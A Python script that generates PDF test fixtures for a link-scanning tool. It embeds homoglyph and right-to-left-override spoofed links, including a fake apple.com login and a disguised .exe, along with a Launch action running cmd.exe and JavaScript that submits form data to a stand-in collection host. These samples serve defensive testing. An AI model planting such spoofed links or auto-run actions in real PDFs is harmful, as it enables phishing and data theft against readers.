#!/usr/bin/env python3
"""Builds the PDF fixtures of fixtures/packages/ from objects written here (no downloaded
document): each holds findings at known places, checked by hand against the reports that
tests/pdf.rs expects and the `*.expected.json` that tests/cli.rs compares. Deterministic, so that
a rebuild changes nothing:

    python3 scripts/make-pdf-fixtures.py

- links.pdf: a classic cross-reference table, two pages; literal strings with escapes and octal
  (a Cyrillic look-alike host written as UTF-8 in octal), a UTF-16BE hex string holding U+202E, an
  annotation written inside its page's /Annots, a link to a page of the document (no action
  read);
- compressed.pdf: PDF 1.5, a cross-reference stream (PNG Up predictor) and an object stream
  (FlateDecode) holding the annotations and actions; a U+200B in a link;
- updated.pdf: an incremental update that replaces an action: the old IRI is not read, the new
  one (a look-alike host) is;
- actions.pdf: a Launch action, a JavaScript action, a `javascript:` URI and a URI action whose
  /Next runs JavaScript.

The hostile shapes (a flate bomb, /Prev and /Kids loops, thousands of objects, deep nesting,
truncated files) are built by the tests themselves, not committed.

`--book OUT.pdf` also builds a real PDF of the project's book (docs/src, in SUMMARY.md's order):
pandoc to HTML, then WeasyPrint (Debian: apt-get install pandoc weasyprint), not committed.
"""

import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import zlib

OUT = pathlib.Path(__file__).resolve().parent.parent / "fixtures" / "packages"


def pdf(objects, version=b"1.4", trailer_extra=b""):
    """A PDF of `objects` ({number: body bytes}) with a classic cross-reference table."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            out += b"%010d 00000 n \n" % offsets[num]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer_extra,
        xref,
    )
    return bytes(out), offsets, xref


def pages(kids):
    return b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % k for k in kids),
        len(kids),
    )


def page(annots):
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots %s >>" % annots


def link(action):
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A %s >>" % action


def uri(s):
    return b"<< /S /URI /URI %s >>" % s


def utf16_hex(text):
    return b"<FEFF" + text.encode("utf-16-be").hex().upper().encode() + b">"


def links_pdf():
    """Page 1: obj 5, a look-alike host written in octal (`\\320\\260` is U+0430 in UTF-8), and
    obj 6, escapes (`\\(`, `\\)`) in a clean IRI; page 2 (obj 4): an annotation inside /Annots
    whose IRI is a UTF-16BE hex string holding U+202E, and a /Dest link (no action)."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: pages([3, 4]),
        3: page(b"[5 0 R 6 0 R]"),
        4: page(
            b"[" + link(uri(utf16_hex("https://example.org/\u202egnp.exe")))
            + b" << /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Dest [3 0 R /Fit] >>]"
        ),
        5: link(uri(b"(https://\\320\\260pple.com/login)")),
        6: link(uri(b"(https://example.org/a\\(b\\)c)")),
    }
    return pdf(objects)[0]


def compressed_pdf():
    """PDF 1.5: objects 4-7 in an object stream (obj 8); the cross-reference stream (obj 9)
    with a PNG Up predictor. Page 1 (obj 3) links obj 4 (clean) and obj 5, whose action (obj 7)
    holds U+200B after `example.`."""
    inner = {
        4: link(uri(b"(https://example.org/docs/)")),
        5: link(b"7 0 R"),
        6: b"<< /Producer (irilint fixtures) >>",
        7: uri(utf16_hex("https://example.\u200borg/pay")),
    }
    head = b""
    body = b""
    for num in sorted(inner):
        head += b"%d %d " % (num, len(body))
        body += inner[num] + b"\n"
    stm_data = zlib.compress(head + body)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: pages([3]),
        3: page(b"[4 0 R 5 0 R]"),
        8: b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(inner), len(head), len(stm_data))
        + stm_data
        + b"\nendstream",
    }
    for num in sorted(plain):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + plain[num] + b"\nendobj\n"
    xref_at = len(out)
    rows = []
    for num in range(0, 10):
        if num == 0:
            rows.append((0, 0, 65535))
        elif num in offsets:
            rows.append((1, offsets[num], 0))
        elif num in inner:
            rows.append((2, 8, sorted(inner).index(num)))
        else:  # obj 9, this stream
            rows.append((1, xref_at, 0))
    raw = bytearray()
    prev = bytes(7)
    for kind, field2, field3 in rows:
        row = bytes([kind]) + field2.to_bytes(4, "big") + field3.to_bytes(2, "big")
        raw += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, prev))
        prev = row
    data = zlib.compress(bytes(raw))
    out += (
        b"9 0 obj\n<< /Type /XRef /Size 10 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
        b" /DecodeParms << /Columns 7 /Predictor 12 >> /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return bytes(out)


def updated_pdf():
    """The original links obj 4 to action obj 5, `https://example.org/old`; an incremental
    update redefines obj 5 as `https://exаmple.org/new` (U+0430 for the first `a`), its
    cross-reference section pointing back with /Prev: only the new IRI is read."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: pages([3]),
        3: page(b"[4 0 R]"),
        4: link(b"5 0 R"),
        5: uri(b"(https://example.org/old)"),
    }
    base, _, xref = pdf(objects)
    out = bytearray(base)
    at = len(out)
    out += b"5 0 obj\n" + uri(b"(https://ex\\320\\260mple.org/new)") + b"\nendobj\n"
    new_xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n5 1\n%010d 00000 n \n" % at
    out += b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        xref,
        new_xref,
    )
    return bytes(out)


def actions_pdf():
    """Page 1: obj 4, a Launch action (cmd.exe); obj 5, a JavaScript action; obj 6, a
    `javascript:` URI; obj 7, a clean URI action whose /Next (obj 8) runs JavaScript."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: pages([3]),
        3: page(b"[4 0 R 5 0 R 6 0 R 7 0 R]"),
        4: link(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"),
        5: link(b"<< /S /JavaScript /JS (app.alert\\('hi'\\);) >>"),
        6: link(uri(b"(javascript:app.launchURL\\('https://example.org/'\\))")),
        7: link(b"<< /S /URI /URI (https://example.org/) /Next 8 0 R >>"),
        8: b"<< /S /JavaScript /JS (this.submitForm\\('https://collect.example.net/'\\);) >>",
    }
    return pdf(objects)[0]


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    (OUT / "links.pdf").write_bytes(links_pdf())
    (OUT / "compressed.pdf").write_bytes(compressed_pdf())
    (OUT / "updated.pdf").write_bytes(updated_pdf())
    (OUT / "actions.pdf").write_bytes(actions_pdf())


def book(out):
    """The project's book as a PDF: pandoc (GitHub-flavoured Markdown to one HTML page), then
    WeasyPrint, which writes each link as a link annotation with a URI action."""
    for tool in ("pandoc", "weasyprint"):
        if shutil.which(tool) is None:
            sys.exit(f"{tool} is not installed (Debian: apt-get install {tool})")
    src = OUT.parent.parent / "docs" / "src"
    summary = (src / "SUMMARY.md").read_text(encoding="utf-8")
    chapters = [str(src / m) for m in re.findall(r"\(([^)]+\.md)\)", summary)]
    with tempfile.TemporaryDirectory() as tmp:
        html = pathlib.Path(tmp) / "book.html"
        subprocess.run(
            ["pandoc", "--metadata", "title=irilint", "-s", "-f", "gfm", "-t", "html5",
             "-o", str(html), *chapters],
            check=True,
        )
        subprocess.run(["weasyprint", str(html), out], check=True)


if __name__ == "__main__":
    main()
    if len(sys.argv) == 3 and sys.argv[1] == "--book":
        book(sys.argv[2])
